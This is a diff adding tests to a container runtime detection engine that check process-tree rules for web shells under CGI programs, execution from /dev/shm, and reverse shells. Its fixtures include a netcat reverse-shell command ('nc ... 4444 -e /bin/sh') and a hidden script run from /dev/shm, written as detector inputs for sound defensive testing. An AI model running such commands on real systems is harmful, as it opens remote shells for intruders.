@@ -203,3 +203,42 @@ describe('container runtime setup', () => {
     expect(run([m(-1, true)]).map((a) => a.rule)).toContain('Denied namespace or mount syscall in container');
   });
 });
+
+describe('rules that follow the process tree', () => {
+  test('a shell below a CGI program of a web server that never exec\'d (busybox httpd) is a web shell', () => {
+    // server.sh runs httpd as an in-process applet (no exec), httpd forks the CGI, the CGI runs sh.
+    const alerts = run([
+      exec('/server.sh', ['/bin/sh', '/server.sh'], { pid: 10 }),
+      fork(10, 11),
+      exec('/www/cgi-bin/status', ['/www/cgi-bin/status'], { pid: 11, ppid: 10 }),
+      fork(11, 12),
+      exec('/bin/sh', ['/bin/sh', '-c', 'id'], { pid: 12, ppid: 11 }),
+    ]).map((a) => a.rule);
+    expect(alerts).toContain('Web server spawned shell');
+  });
+
+  test('the same shell below an ordinary script is not a web shell', () => {
+    const alerts = run([
+      exec('/usr/local/bin/backup', ['/usr/local/bin/backup'], { pid: 11 }),
+      fork(11, 12),
+      exec('/bin/sh', ['/bin/sh', '-c', 'id'], { pid: 12, ppid: 11 }),
+    ]).map((a) => a.rule);
+    expect(alerts).not.toContain('Web server spawned shell');
+  });
+
+  test('a shell told to run a script from /dev/shm counts as execution from shm; a command mentioning /tmp does not', () => {
+    expect(run([exec('/bin/sh', ['sh', '/dev/shm/.x'], { pid: 20 })]).map((a) => a.rule)).toContain('Execution from tmp or shm');
+    expect(run([exec('/bin/sh', ['sh', '-c', 'cat /tmp/f'], { pid: 21 })]).map((a) => a.rule)).not.toContain('Execution from tmp or shm');
+  });
+
+  test('a connection seen before the fork that created its process is kept (events from separate ring buffers)', () => {
+    const alerts = run([
+      exec('/bin/nc', ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'], { pid: 30 }),
+      // cnetwork's ring buffer delivered the child's connect before syscall's fork record
+      connect('10.0.0.9', 4444, { pid: 31, comm: 'nc' }),
+      fork(30, 31),
+      exec('/bin/sh', ['/bin/sh'], { pid: 31, ppid: 30 }),
+    ]).map((a) => a.rule);
+    expect(alerts.some((r) => r.startsWith('Reverse shell'))).toBe(true);
+  });
+});
